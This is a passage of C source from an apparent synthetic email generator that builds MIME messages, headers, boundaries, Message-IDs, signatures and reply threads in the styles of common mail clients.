	DEMO_NAME_2047_B,      /* name="=?UTF-8?B?...?=", as big web mails do */
};

struct demo_att {
	const char *type;    /* MIME type */
	const char *charset; /* for text types, or NULL */
	const char *name;    /* file name (UTF-8, possibly hostile); NULL for none */
	int name_style;
	const char *data;
	size_t len;
	enum demo_cte cte;
	const char *cid;     /* Content-ID of an inline image */
	bool inline_part;
};

/* The habits of one message: charsets, encodings, HTML, header encoding. */
struct demo_fmt {
	enum demo_cs cs;
	const char *cs_label;  /* NULL: no charset parameter */
	bool quote_label;
	bool ascii_label;      /* say us-ascii when the text is ASCII */
	enum demo_cte cte;
	bool flowed;
	bool bare;             /* no MIME headers at all */
	bool html, html_only, logo;
	enum demo_html_style html_style;
	char hdr_enc;          /* 'Q', 'B', 'R' raw UTF-8, 'L' raw Latin-1 */
	enum demo_cs hdr_cs;
	const char *hdr_label;
	unsigned wrap;
	int name_style;
	bool smart;            /* Word's curly quotes and dashes */
	bool blank_before_boundary;
	const char *preamble;
};

static void
demo_put_quoted(struct demo_buf *out, const char *s)
{
	demo_buf_putc(out, '"');
	for (; *s; s++) {
		if (*s == '"' || *s == '\\')
			demo_buf_putc(out, '\\');
		demo_buf_putc(out, *s);
	}
	demo_buf_putc(out, '"');
}

/* A display name needs quotes when it holds RFC 5322 specials. */
static bool
demo_needs_quotes(const char *s)
{
	return strpbrk(s, "()<>[]:;@\\,.\"") != NULL;
}

static void
demo_put_phrase(struct demo_gen *g, TALLOC_CTX *ctx, struct demo_buf *out, const char *name,
		const struct demo_fmt *f)
{
	if (demo_is_ascii(name)) {
		if (demo_needs_quotes(name))
			demo_put_quoted(out, name);
		else
			demo_buf_puts(out, name);
		return;
	}
	switch (f->hdr_enc) {
	case 'R':
		demo_put_quoted(out, name);
		break;
	case 'L': {
		struct demo_buf tmp;

		demo_buf_init(&tmp, ctx);
		demo_convert(name, DEMO_CS_LATIN1, &tmp);
		demo_put_quoted(out, demo_buf_str(&tmp));
		talloc_free(tmp.p);
		break;
	}
	default:
		demo_rfc2047(g, ctx, name, f->hdr_cs, f->hdr_label, f->hdr_enc, out);
		break;
	}
}

static void
demo_put_addr(struct demo_gen *g, TALLOC_CTX *ctx, struct demo_buf *out, const char *name,
	      const char *email, const struct demo_fmt *f)
{
	if (name && *name) {
		demo_put_phrase(g, ctx, out, name, f);
		demo_buf_printf(out, " <%s>", email);
	} else {
		demo_buf_puts(out, email);
	}
}

/* An unstructured header value (Subject) encoded the way the program would. */
static char *
demo_encode_text_header(struct demo_gen *g, TALLOC_CTX *ctx, const char *s, const struct demo_fmt *f)
{
	struct demo_buf out;

	if (demo_is_ascii(s))
		return demo_strdup(g, ctx, s);
	demo_buf_init(&out, ctx);
	if (f->hdr_enc == 'R')
		demo_buf_puts(&out, s);
	else if (f->hdr_enc == 'L')
		demo_convert(s, DEMO_CS_LATIN1, &out);
	else
		demo_rfc2047(g, ctx, s, f->hdr_cs, f->hdr_label, f->hdr_enc, &out);
	return demo_buf_take(g, &out);
}

static void
demo_put_name_param(struct demo_gen *g, TALLOC_CTX *ctx, struct demo_buf *out, const char *param,
		    const char *name, int style)
{
	struct demo_buf tmp;
	struct demo_fmt f = {.hdr_cs = DEMO_CS_UTF8, .hdr_label = "UTF-8", .hdr_enc = 'B'};

	if (demo_is_ascii(name) && style != DEMO_NAME_2231 && style != DEMO_NAME_2231_CONT)
		style = DEMO_NAME_PLAIN;
	demo_buf_init(&tmp, ctx);
	switch (style) {
	case DEMO_NAME_PLAIN:
	case DEMO_NAME_RAW:
		demo_buf_printf(out, ";\n\t%s=", param);
		demo_put_quoted(out, name);
		break;
	case DEMO_NAME_2231:
		demo_buf_printf(out, ";\n\t%s*=utf-8''", param);
		demo_rfc2231(name, out);
		break;
	case DEMO_NAME_2231_LATIN1:
		demo_convert(name, DEMO_CS_LATIN1, &tmp);
		demo_buf_printf(out, ";\n\t%s*=iso-8859-1''", param);
		demo_rfc2231(demo_buf_str(&tmp), out);
		break;
	case DEMO_NAME_2231_CONT: {
		/* Pieces of about 30 characters, never cutting a %XX escape. */
		const char *p;
		unsigned piece = 0;

		demo_rfc2231(name, &tmp);
		p = demo_buf_str(&tmp);
		while (*p) {
			size_t n = strlen(p) > 30 ? 30 : strlen(p);

			while (n < strlen(p) && (p[n] == '%' || (n >= 1 && p[n - 1] == '%') ||
						 (n >= 2 && p[n - 2] == '%')))
				n++;
			demo_buf_printf(out, ";\n\t%s*%u*=%s", param, piece, piece ? "" : "utf-8''");
			demo_buf_add(out, p, n);
			p += n;
			piece++;
		}
		break;
	}
	case DEMO_NAME_2047_Q:
		f.hdr_enc = 'Q';
		f.hdr_cs = DEMO_CS_LATIN1;
		f.hdr_label = "iso-8859-1";
		/* fall through */
	default:
		demo_buf_printf(out, ";\n\t%s=\"", param);
		demo_rfc2047(g, ctx, name, f.hdr_cs, f.hdr_label, f.hdr_enc, &tmp);
		demo_buf_puts(out, demo_buf_str(&tmp));
		demo_buf_putc(out, '"');
		break;
	}
	if (tmp.oom)
		g->oom = true;
	talloc_free(tmp.p);
}

static void
demo_emit_attachment(struct demo_gen *g, TALLOC_CTX *ctx, struct demo_buf *out,
		     const struct demo_att *a)
{
	enum demo_cte cte = a->cte;

	demo_buf_printf(out, "Content-Type: %s", a->type);
	if (a->charset)
		demo_buf_printf(out, "; charset=%s", a->charset);
	if (a->name)
		demo_put_name_param(g, ctx, out, "name",  a->name,
				    a->name_style == DEMO_NAME_2231_CONT ? DEMO_NAME_2231 : a->name_style);
	demo_buf_putc(out, '\n');
	if (a->cid)
		demo_buf_printf(out, "Content-ID: <%s>\n", a->cid);
	demo_buf_puts(out, a->inline_part ? "Content-Disposition: inline" : "Content-Disposition: attachment");
	if (a->name)
		demo_put_name_param(g, ctx, out, "filename", a->name, a->name_style);
	demo_buf_putc(out, '\n');
	if (cte == DEMO_CTE_NONE && !demo_bytes_ascii(a->data, a->len))
		cte = DEMO_CTE_8BIT;
	if (demo_cte_names[cte])
		demo_buf_printf(out, "Content-Transfer-Encoding: %s\n", demo_cte_names[cte]);
	demo_buf_putc(out, '\n');
	demo_encode_body(a->data, a->len, cte, out);
}

/* A text/plain or text/html entity: its headers, the blank line and the encoded body. */
static void
demo_emit_text(TALLOC_CTX *ctx, struct demo_buf *out, const char *utf8, const char *subtype,
	       const struct demo_fmt *f)
{
	struct demo_buf bytes;
	enum demo_cte cte = f->cte;
	const char *label = f->cs_label;
	bool ascii;

	demo_buf_init(&bytes, ctx);
	demo_convert(utf8, f->cs, &bytes);
	ascii = demo_bytes_ascii(demo_buf_str(&bytes), bytes.len);
	if (ascii && (cte == DEMO_CTE_8BIT || cte == DEMO_CTE_QP) && f->ascii_label) {
		cte = DEMO_CTE_7BIT;
		label = "us-ascii";
	} else if (ascii && cte == DEMO_CTE_8BIT) {
		cte = DEMO_CTE_7BIT;
	}
	if (!f->bare) {
		demo_buf_printf(out, "Content-Type: text/%s", subtype);
		if (label)
			demo_buf_printf(out, f->quote_label ? "; charset=\"%s\"" : "; charset=%s", label);
		if (f->flowed && strcmp(subtype, "plain") == 0)
			demo_buf_puts(out, "; format=flowed");
		demo_buf_putc(out, '\n');
		if (demo_cte_names[cte])
			demo_buf_printf(out, "Content-Transfer-Encoding: %s\n", demo_cte_names[cte]);
	}
	demo_buf_putc(out, '\n');
	demo_encode_body(demo_buf_str(&bytes), bytes.len, cte, out);
	if (bytes.oom)
		out->oom = true;
	talloc_free(bytes.p);
}

static char *
demo_boundary(struct demo_gen *g, TALLOC_CTX *ctx, unsigned client, unsigned level)
{
	uint64_t a = demo_rng_next(&g->rng), b = demo_rng_next(&g->rng);

	switch (client) {
	case DEMO_OUTLOOK:
		return demo_printf(g, ctx, "----=_NextPart_%03u_%04X_%08X.%08X", level,
				   (unsigned)(a & 0xFFFF), (unsigned)(a >> 32), (unsigned)b);
	case DEMO_THUNDERBIRD:
		return demo_printf(g, ctx, "------------%012llX%012llX",
				   (unsigned long long)(a & 0xFFFFFFFFFFFFull),
				   (unsigned long long)(b & 0xFFFFFFFFFFFFull));
	case DEMO_APPLE:
	case DEMO_MOBILE:
		return demo_printf(g, ctx, "Apple-Mail=_%08X-%04X-%04X-%04X-%012llX",
				   (unsigned)(a >> 32), (unsigned)(a >> 16) & 0xFFFF,
				   (unsigned)a & 0xFFFF, (unsigned)(b >> 48),
				   (unsigned long long)(b & 0xFFFFFFFFFFFFull));
	case DEMO_WEBMAIL:
		return demo_printf(g, ctx, "0000000000%016llx%02x", (unsigned long long)a,
				   (unsigned)(b & 0xFF));
	default:
		return demo_printf(g, ctx, "=_%08x%08x", (unsigned)(a >> 32), (unsigned)b);
	}
}

static void
demo_mp_begin(struct demo_buf *out, const char *subtype, const char *boundary, const char *params,
	      const char *preamble)
{
	demo_buf_printf(out, "Content-Type: multipart/%s;%s\n\tboundary=\"%s\"\n\n", subtype, params,
			boundary);
	if (preamble)
		demo_buf_printf(out, "%s\n", preamble);
}

static void
demo_mp_next(struct demo_buf *out, const char *boundary, bool blank)
{
	demo_buf_printf(out, "%s--%s\n", blank ? "\n" : "", boundary);
}

static void
demo_mp_end(struct demo_buf *out, const char *boundary, bool blank)
{
	demo_buf_printf(out, "%s--%s--\n", blank ? "\n" : "", boundary);
}

/*
 * The body of an ordinary message: plain, HTML or both, the HTML maybe
 * with its logo in a multipart/related, and attachments around it all in
 * a multipart/mixed.
 */
static void
demo_emit_body(struct demo_gen *g, TALLOC_CTX *ctx, struct demo_buf *out, unsigned client,
	       const struct demo_fmt *f, const char *plain, const char *html,
	       const struct demo_att *logo, const struct demo_att *atts, unsigned natt)
{
	bool blank = f->blank_before_boundary;
	const char *mixed = natt ? demo_boundary(g, ctx, client, 0) : NULL;
	const char *preamble = f->preamble;

	if (mixed) {
		demo_mp_begin(out, "mixed", mixed, "", preamble);
		demo_mp_next(out, mixed, false);
		preamble = NULL;
	}
	if (html) {
		const char *alt = f->html_only ? NULL : demo_boundary(g, ctx, client, 1);
		const char *rel = logo ? demo_boundary(g, ctx, client, 2) : NULL;

		if (alt) {
			demo_mp_begin(out, "alternative", alt, "", preamble);
			demo_mp_next(out, alt, false);
			demo_emit_text(ctx, out, plain, "plain", f);
			demo_mp_next(out, alt, blank);
		}
		if (rel) {
			demo_mp_begin(out, "related", rel, " type=\"text/html\";", alt ? NULL : preamble);
			demo_mp_next(out, rel, false);
		}
		demo_emit_text(ctx, out, html, "html", f);
		if (rel) {
			demo_mp_next(out, rel, blank);
			demo_emit_attachment(g, ctx, out, logo);
			demo_mp_end(out, rel, blank);
		}
		if (alt)
			demo_mp_end(out, alt, blank);
	} else {
		demo_emit_text(ctx, out, plain, "plain", f);
	}
	if (mixed) {
		for (unsigned i = 0; i < natt; i++) {
			demo_mp_next(out, mixed, blank);
			demo_emit_attachment(g, ctx, out, &atts[i]);
		}
		demo_mp_end(out, mixed, blank);
	}
}

/* ---------------------------------------------------------------- mail programs */

static void
demo_choose_fmt(struct demo_gen *g, unsigned client, int lang, struct demo_fmt *f)
{
	unsigned r = demo_rng_below(&g->rng, 100);

	memset(f, 0, sizeof(*f));
	f->cs = DEMO_CS_UTF8;
	f->cs_label = "utf-8";
	f->hdr_cs = DEMO_CS_UTF8;
	f->hdr_label = "utf-8";
	f->hdr_enc = 'Q';
	f->name_style = DEMO_NAME_2231;
	f->blank_before_boundary = true;
	switch (client) {
	case DEMO_OUTLOOK:
		if (r < 55) {
			f->cs = DEMO_CS_CP1252;
			f->cs_label = "windows-1252";
		} else if (r < 80) {
			f->cs = DEMO_CS_LATIN1;
			f->cs_label = "iso-8859-1";
		}
		f->hdr_cs = f->cs;
		f->hdr_label = f->cs_label;
		f->ascii_label = lang == DEMO_EN;
		f->quote_label = true;
		f->cte = DEMO_CTE_QP;
		f->html = demo_rng_pct(&g->rng, 85);
		f->logo = f->html && demo_rng_pct(&g->rng, 30);
		f->html_style = DEMO_HTML_OUTLOOK;
		f->name_style = DEMO_NAME_2047_Q;
		f->smart = true;
		f->preamble = "This is a multipart message in MIME format.\n";
		break;
	case DEMO_THUNDERBIRD:
		f->cs_label = "UTF-8";
		f->hdr_label = "UTF-8";
		f->cte = DEMO_CTE_8BIT;
		if (r < 70) {
			f->flowed = true;
		} else if (r < 85) {
			f->cs = DEMO_CS_CP1252;
			f->cs_label = "windows-1252";
		} else {
			f->cte = DEMO_CTE_QP;
		}
		f->hdr_enc = demo_rng_pct(&g->rng, 60) ? 'Q' : 'B';
		f->wrap = 72;
		f->html = demo_rng_pct(&g->rng, 20);
		f->html_style = DEMO_HTML_THUNDERBIRD;
		f->name_style = demo_rng_pct(&g->rng, 50) ? DEMO_NAME_2231_CONT : DEMO_NAME_2231;
		f->preamble = "This is a multi-part message in MIME format.";
		break;
	case DEMO_APPLE:
		f->cte = DEMO_CTE_QP;
		f->ascii_label = true;
		f->html = demo_rng_pct(&g->rng, 70);
		f->html_style = DEMO_HTML_APPLE;
		break;
	case DEMO_WEBMAIL:
		f->cs_label = "UTF-8";
		f->hdr_label = "UTF-8";
		f->hdr_enc = 'B';
		f->quote_label = true;
		f->cte = r < 50 ? DEMO_CTE_B64 : DEMO_CTE_QP;
		f->html = true;
		f->html_only = demo_rng_pct(&g->rng, 8);
		f->html_style = DEMO_HTML_WEBMAIL;
		f->name_style = DEMO_NAME_2047_B;
		f->blank_before_boundary = false;
		break;
	case DEMO_OLDWEB:
		f->cs = DEMO_CS_LATIN1;
		f->cs_label = "ISO-8859-1";
		f->hdr_cs = DEMO_CS_LATIN1;
		f->hdr_label = "ISO-8859-1";
		f->cte = DEMO_CTE_8BIT;
		f->wrap = 76;
		f->name_style = demo_rng_pct(&g->rng, 50) ? DEMO_NAME_2231_LATIN1 : DEMO_NAME_RAW;
		if (r < 55) {
			/* The defaults. */
		} else if (r < 70) {
			/* An ISO-8859-1 body that does not say so. */
			f->cs_label = NULL;
			f->hdr_enc = demo_rng_pct(&g->rng, 50) ? 'L' : 'Q';
		} else if (r < 80) {
			f->bare = true;
			f->cs_label = NULL;
			f->cte = DEMO_CTE_NONE;
			f->hdr_enc = 'L';
		} else if (r < 90) {
			f->cte = DEMO_CTE_QP;
			f->cs_label = "iso-8859-1";
		} else {
			f->cs = DEMO_CS_UTF8;
			f->cs_label = "UTF-8";
		}
		break;
	default: /* DEMO_MOBILE */
		f->cte = r < 40 ? DEMO_CTE_B64 : r < 80 ? DEMO_CTE_QP : DEMO_CTE_8BIT;
		f->hdr_enc = demo_rng_pct(&g->rng, 70) ? 'B' : 'R';
		f->ascii_label = true;
		break;
	}
}

static const char *
demo_mailer_header(struct demo_gen *g, unsigned client)
{
	static const char *const outlook[] = {
		"X-Mailer: Microsoft Outlook 14.0", "X-Mailer: Microsoft Office Outlook 12.0",
		"X-Mailer: Microsoft Outlook 15.0",
	};
	static const char *const tb[] = {
		"User-Agent: Mozilla/5.0 (Windows NT 6.1; WOW64; rv:38.0) Gecko/20100101\n"
		" Thunderbird/38.7.0",
		"User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:45.0) Gecko/20100101\n"
		" Thunderbird/45.8.0",
		"User-Agent: Mozilla/5.0 (Windows NT 10.0; WOW64; rv:52.0) Gecko/20100101\n"
		" Thunderbird/52.4.0",
	};
	static const char *const apple[] = {
		"X-Mailer: Apple Mail (2.1878.6)", "X-Mailer: Apple Mail (2.3124)",
	};
	static const char *const oldweb[] = {
		"User-Agent: Internet Messaging Program (IMP) H3 (4.3.11)",
		"X-Mailer: SquirrelMail/1.4.22", "User-Agent: Roundcube Webmail/0.9.5",
	};
	static const char *const mobile[] = {
		"X-Mailer: iPhone Mail (13E238)", "X-Mailer: iPhone Mail (12H321)",
		"X-Mailer: BlackBerry Email (10.3.2.2876)",
	};

	switch (client) {
	case DEMO_OUTLOOK:
		return outlook[demo_rng_below(&g->rng, DEMO_ARRAY_SIZE(outlook))];
	case DEMO_THUNDERBIRD:
		return tb[demo_rng_below(&g->rng, DEMO_ARRAY_SIZE(tb))];
	case DEMO_APPLE:
		return apple[demo_rng_below(&g->rng, DEMO_ARRAY_SIZE(apple))];
	case DEMO_OLDWEB:
		return oldweb[demo_rng_below(&g->rng, DEMO_ARRAY_SIZE(oldweb))];
	case DEMO_MOBILE:
		return mobile[demo_rng_below(&g->rng, DEMO_ARRAY_SIZE(mobile))];
	default:
		return NULL;
	}
}

/* A Message-ID (without angle brackets) in the style of the program. */
static char *
demo_message_id(struct demo_gen *g, TALLOC_CTX *ctx, unsigned client, const char *domain,
		int64_t when)
{
	uint64_t a = demo_rng_next(&g->rng), b = demo_rng_next(&g->rng);
	struct demo_tm tm;

	switch (client) {
	case DEMO_OUTLOOK:
		return demo_printf(g, ctx, "00%010llx$%08x$%08x$@%s",
				   (unsigned long long)(a & 0xFFFFFFFFFFull), (unsigned)(a >> 40),
				   (unsigned)b, domain);
	case DEMO_THUNDERBIRD:
		return demo_printf(g, ctx, "%08X.%07u@%s", (unsigned)when,
				   (unsigned)(a % 10000000u), domain);
	case DEMO_APPLE:
	case DEMO_MOBILE:
		return demo_printf(g, ctx, "%08X-%04X-%04X-%04X-%012llX@%s", (unsigned)(a >> 32),
				   (unsigned)(a >> 16) & 0xFFFF, (unsigned)a & 0xFFFF,
				   (unsigned)(b >> 48), (unsigned long long)(b & 0xFFFFFFFFFFFFull),
				   domain);
	case DEMO_WEBMAIL: {
		static const char alnum[] =
			"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+_-=";
		char s[41];

		for (int i = 0; i < 40; i++) {
			s[i] = alnum[(a ^ (b >> (i % 8))) % (sizeof(alnum) - 1)];
			a = a * 6364136223846793005ull + 1442695040888963407ull;
		}
		s[40] = '\0';
		return demo_printf(g, ctx, "CA+%s@mail.%s", s, domain);
	}
	default:
		demo_localtime(when, DEMO_TZ_PARIS, &tm);
		return demo_printf(g, ctx, "%04d%02u%02u%02u%02u%02u.%08x%04x@webmail.%s", tm.year,
				   tm.mon, tm.day, tm.hour, tm.min, tm.sec, (unsigned)a,
				   (unsigned)(b & 0xFFFF), domain);
	}
}

/* Word's AutoFormat: curly apostrophes and quotes, en dashes. */
static char *
demo_smarten(struct demo_gen *g, TALLOC_CTX *ctx, const char *s)
{
	struct demo_buf out;
	bool open = true;

	demo_buf_init(&out, ctx);
	for (const char *p = s; *p; p++) {
		if (*p == '\'')
			demo_buf_puts(&out, "’");
		else if (*p == '"') {
			demo_buf_puts(&out, open ? "“" : "”");
			open = !open;
		} else if (*p == ' ' && p[1] == '-' && p[2] == ' ') {
			demo_buf_puts(&out, " – ");
			p += 2;
		} else
			demo_buf_putc(&out, *p);
	}
	return demo_buf_take(g, &out);
}

/* ---------------------------------------------------------------- threads */

#define DEMO_MAX_THREAD 30
#define DEMO_MAX_PEOPLE 8

enum demo_kind {
	DEMO_NEW,
	DEMO_REPLY,
	DEMO_FORWARD,
};

struct demo_msg {
	int from;
	int to[4];
	unsigned nto;
	int cc[4];
	unsigned ncc;
	int list;       /* enum demo_list_id, or -1 */
	int parent;     /* index in the thread, or -1 */
	enum demo_kind kind;
	int lang;
	unsigned client;
	unsigned depth; /* messages above it, for Outlook's Thread-Index */
	int64_t when;
	char *id;       /* without angle brackets */
	char *refs;     /* its References header, "" for none */
	char *subject;  /* UTF-8, with its Re:/TR: prefix */
	char *text;     /* the plain text as sent, for the replies to quote */
	char *raw;      /* the file as written, for forwards as attachments */
	size_t raw_len;
};

struct demo_thread {
	TALLOC_CTX *ctx;
	const struct demo_topic *topic;
	int lang;
	int list;
	int people[DEMO_MAX_PEOPLE];
	unsigned npeople;
	char *base;     /* the subject without prefixes */
	unsigned char tindex[22];
	struct demo_msg m[DEMO_MAX_THREAD];
	unsigned n;
};

static const struct demo_topic *
demo_pick_topic(struct demo_gen *g)
{
	unsigned total = 0, r;

	for (unsigned i = 0; i < demo_topics_count; i++)
		total += demo_topics[i].weight;
	r = demo_rng_below(&g->rng, total);
	for (unsigned i = 0; i < demo_topics_count; i++) {
		if (r < demo_topics[i].weight)
			return &demo_topics[i];
		r -= demo_topics[i].weight;
	}
	return &demo_topics[0];
}

static unsigned
demo_thread_size(struct demo_gen *g)
{
	unsigned r = demo_rng_below(&g->rng, 100);

	if (r < 34)
		return 1;
	if (r < 54)
		return 2;
	if (r < 68)
		return 3;
	if (r < 78)
		return demo_rng_range(&g->rng, 4, 5);
	if (r < 88)
		return demo_rng_range(&g->rng, 6, 10);
	if (r < 96)
		return demo_rng_range(&g->rng, 11, 20);
	return demo_rng_range(&g->rng, 21, DEMO_MAX_THREAD);
}

static bool
demo_thread_has(const struct demo_thread *th, int who)
{
	for (unsigned i = 0; i < th->npeople; i++)
		if (th->people[i] == who)
			return true;
	return false;
}

static void
demo_thread_add(struct demo_thread *th, int who)
{
	if (who >= 0 && th->npeople < DEMO_MAX_PEOPLE && !demo_thread_has(th, who))
		th->people[th->npeople++] = who;
}

/* A start time on a working day, mostly in office hours (Paris). */
static int64_t
demo_start_time(struct demo_gen *g)
{
	int64_t day;
	unsigned hour, wd;

	do {
		day = DEMO_FIRST_DAY + demo_rng_below(&g->rng, DEMO_LAST_DAY - DEMO_FIRST_DAY);
		wd = demo_weekday(day);
	} while ((wd == 0 || wd == 6) && demo_rng_pct(&g->rng, 85));
	hour = demo_rng_pct(&g->rng, 92) ? demo_rng_range(&g->rng, 7, 18) : demo_rng_range(&g->rng, 19, 23);
	/* Office hours are Paris hours; an hour off in summer does not matter here. */
	return day * 86400 + (int64_t)(hour - 1) * 3600 + demo_rng_below(&g->rng, 3600);
}

static const char *
demo_reply_prefix(struct demo_gen *g, unsigned client, int lang, enum demo_kind kind)
{
	if (kind == DEMO_REPLY)
		return client == DEMO_OUTLOOK ? (lang == DEMO_FR && demo_rng_pct(&g->rng, 40) ? "RE : " : "RE: ")
					      : "Re: ";
	switch (client) {
	case DEMO_OUTLOOK:
		return lang == DEMO_FR ? "TR: " : "FW: ";
	case DEMO_OLDWEB:
		return "Fw: ";
	default:
		return "Fwd: ";
	}
}

/* The subject without its reply prefixes (forward prefixes stay, as mail programs do). */
static const char *
demo_strip_re(const char *s)
{
	for (;;) {
		if (strncasecmp(s, "re:", 3) == 0)
			s += 3;
		else if (strncasecmp(s, "re :", 4) == 0)
			s += 4;
		else
			return s;
		while (*s == ' ')
			s++;
	}
}

static char *
demo_signature(struct demo_gen *g, TALLOC_CTX *ctx, int who, bool delimiter)
{
	const struct demo_person *p = demo_person((unsigned)who);
	const struct demo_org *o = &demo_orgs[p->org];
	struct demo_buf out;

	demo_buf_init(&out, ctx);
	if (!delimiter)
		demo_buf_putc(&out, '!');
	demo_buf_printf(&out, "%s\n%s\n", p->name, p->title);
	if (o->name)
		demo_buf_printf(&out, "%s\n", o->name);
	if (o->address)
		demo_buf_printf(&out, "%s\n", o->address);
	switch (o->phone ? o->phone_style : DEMO_PHONE_NONE) {
	case DEMO_PHONE_FR: {
		unsigned a = demo_rng_below(&g->rng, 100);

		demo_buf_printf(&out, "%s %02u %02u\n", o->phone, a, demo_rng_below(&g->rng, 100));
		break;
	}
	case DEMO_PHONE_2:
		demo_buf_printf(&out, "%s%02u\n", o->phone, demo_rng_below(&g->rng, 100));
		break;
	case DEMO_PHONE_3:
		demo_buf_printf(&out, "%s%03u\n", o->phone, demo_rng_below(&g->rng, 1000));
		break;
	case DEMO_PHONE_4:
		demo_buf_printf(&out, "%s%04u\n", o->phone, demo_rng_below(&g->rng, 10000));
		break;
	default:
		break;
	}
	if (p->org == DEMO_ORG_REVB && demo_rng_pct(&g->rng, 30))
		demo_buf_puts(&out, p->lang == DEMO_FR
					    ? "P Pensez à l'environnement avant d'imprimer ce courriel.\n"
					    : "Please consider the environment before printing this e-mail.\n");
	return demo_buf_take(g, &out);
}

/* French elides "que" before a vowel: "je vous confirme qu'un candidat". */
static bool
demo_starts_with_vowel(const char *s)
{
	static const char *const vowels[] = {"a", "e", "i", "o", "u", "y", "h", "é", "è", "ê", "à",
					     "â", "î", "ô", "û"};

	for (size_t i = 0; i < DEMO_ARRAY_SIZE(vowels); i++)
		if (strncmp(s, vowels[i], strlen(vowels[i])) == 0)
			return true;
	return false;
}

static char *
demo_sentence(struct demo_gen *g, TALLOC_CTX *ctx, const struct demo_env *env,
	      const struct demo_topic *topic)
{
	const struct demo_strings *pool = &topic->sentences[env->lang];
	unsigned k = demo_rng_below(&g->rng, pool->n);
	char *s;

	/* A sentence said once in a message is not said again, while others remain. */
	for (unsigned tries = 0; env->used && tries < 8 && k < 64 && (*env->used >> k) & 1; tries++)
		k = demo_rng_below(&g->rng, pool->n);
	if (env->used && k < 64)
		*env->used |= 1ull << k;
	s = demo_expand(g, ctx, env, pool->n ? pool->v[k] : "");
	if (*s && demo_rng_pct(&g->rng, 20)) {
		char *lead = demo_expand(g, ctx, env, demo_pick(g, &demo_phrases[env->lang].lead_in));
		size_t n = strlen(lead);

		if (n >= 4 && strcmp(lead + n - 4, "que ") == 0 && demo_starts_with_vowel(s))
			return demo_printf(g, ctx, "%.*squ'%s", (int)(n - 4), lead, s);
		return demo_printf(g, ctx, "%s%s", lead, s);
	}
	demo_capitalize(s);
	return s;
}

static char *
demo_paragraph(struct demo_gen *g, TALLOC_CTX *ctx, const struct demo_env *env,
	       const struct demo_topic *topic, unsigned sentences)
{
	struct demo_buf out;

	demo_buf_init(&out, ctx);
	for (unsigned i = 0; i < sentences; i++) {
		if (i)
			demo_buf_putc(&out, ' ');
		demo_buf_puts(&out, demo_sentence(g, ctx, env, topic));
	}
	return demo_buf_take(g, &out);
}

static char *
demo_table(struct demo_gen *g, TALLOC_CTX *ctx, const struct demo_env *env)
{
	const struct demo_phrases *ph = &demo_phrases[env->lang];
	struct demo_buf out;
	unsigned rows = demo_rng_range(&g->rng, 3, 6);

	demo_buf_init(&out, ctx);
	demo_buf_puts(&out, demo_expand(g, ctx, env, demo_pick(g, &ph->table_head)));
	for (unsigned i = 0; i < rows; i++) {
		unsigned long planned = demo_rng_range(&g->rng, 5, 900) * 1000ul;
		unsigned long actual = planned / 100 * demo_rng_range(&g->rng, 60, 130);

		demo_buf_putc(&out, '\n');
		demo_buf_puts(&out, demo_expand(g, ctx, env, demo_pick(g, &ph->table_rows)));
		demo_buf_putc(&out, '\t');
		demo_put_money(&out, planned, env->lang, env->no_euro);
		demo_buf_putc(&out, '\t');
		demo_put_money(&out, actual, env->lang, env->no_euro);
		demo_buf_putc(&out, '\t');
		demo_buf_putc(&out, actual >= planned ? '+' : '-');
		demo_put_money(&out, actual >= planned ? actual - planned : planned - actual, env->lang,
			       env->no_euro);
	}
	return demo_buf_take(g, &out);
}

/* "Le 15 mars 2016 à 14:03, Hélène Lefèvre <...> a écrit :" in the program's words. */
static char *
demo_attribution(struct demo_gen *g, TALLOC_CTX *ctx, const struct demo_msg *parent,
		 unsigned client, int lang, enum demo_zone zone)
{
	static const char *const fr_wd[] = {"dim.", "lun.", "mar.", "mer.", "jeu.", "ven.", "sam."};
	static const char *const fr_mon[] = {"janv.", "févr.", "mars", "avr.", "mai", "juin",
					     "juil.", "août", "sept.", "oct.", "nov.", "déc."};
	const struct demo_person *p = demo_person((unsigned)parent->from);
	const char *email = demo_email(g, ctx, (unsigned)parent->from);
	const struct demo_phrases *ph = &demo_phrases[lang];
	struct demo_tm tm;

	demo_localtime(parent->when, zone, &tm);
	switch (client) {
	case DEMO_THUNDERBIRD:
		return lang == DEMO_FR ? demo_printf(g, ctx, "Le %02u/%02u/%d à %02u:%02u, %s a écrit :",
						     tm.day, tm.mon, tm.year, tm.hour, tm.min, p->name)
				       : demo_printf(g, ctx, "On %02u/%02u/%d %02u:%02u, %s wrote:", tm.day,
						     tm.mon, tm.year, tm.hour, tm.min, p->name);
	case DEMO_WEBMAIL:
		return lang == DEMO_FR
			       ? demo_printf(g, ctx, "Le %s %u %s %d à %02u:%02u, %s <%s> a écrit :",
					     fr_wd[tm.wday], tm.day, fr_mon[tm.mon - 1], tm.year, tm.hour,
					     tm.min, p->name, email)
			       : demo_printf(g, ctx, "On %s, %s %u, %d at %u:%02u %s, %s <%s> wrote:",
					     demo_wday_abbr[tm.wday], demo_mon_abbr[tm.mon - 1], tm.day,
					     tm.year, tm.hour % 12 ? tm.hour % 12 : 12, tm.min,
					     tm.hour >= 12 ? "PM" : "AM", p->name, email);
	case DEMO_OLDWEB:
		return lang == DEMO_FR ? demo_printf(g, ctx, "%s <%s> a écrit :", p->name, email)
				       : demo_printf(g, ctx, "Quoting %s <%s>:", p->name, email);
	default:
		return lang == DEMO_FR
			       ? demo_printf(g, ctx, "Le %u %s %d à %02u:%02u, %s <%s> a écrit :", tm.day,
					     ph->months[tm.mon - 1], tm.year, tm.hour, tm.min, p->name,
					     email)
			       : demo_printf(g, ctx, "On %u %s %d, at %02u:%02u, %s <%s> wrote:", tm.day,
					     ph->months[tm.mon - 1], tm.year, tm.hour, tm.min, p->name,
					     email);
	}
}

static void
demo_names_line(struct demo_gen *g, struct demo_buf *out, const int *who, unsigned n, int list,
		bool brackets)
{
	if (list >= 0) {
		demo_buf_printf(out, "%s@%s", demo_lists[list].name, demo_list_domain);
		if (n)
			demo_buf_puts(out, "; ");
	}
	for (unsigned i = 0; i < n; i++) {
		const struct demo_person *p = demo_person((unsigned)who[i]);

		if (i)
			demo_buf_puts(out, "; ");
		demo_buf_puts(out, p->name);
		if (brackets)
			demo_buf_printf(out, " <%s@%s>", p->login, demo_orgs[p->org].domain);
	}
	(void)g;
}

/*
 * The header block Outlook puts above a quoted or forwarded message
 * ("-----Message d'origine-----", "De : ...") or the forward banner of
 * the other programs.
 */
static char *
demo_quoted_header(struct demo_gen *g, TALLOC_CTX *ctx, const struct demo_msg *parent,
		   unsigned client, int lang, enum demo_zone zone, bool forward)
{
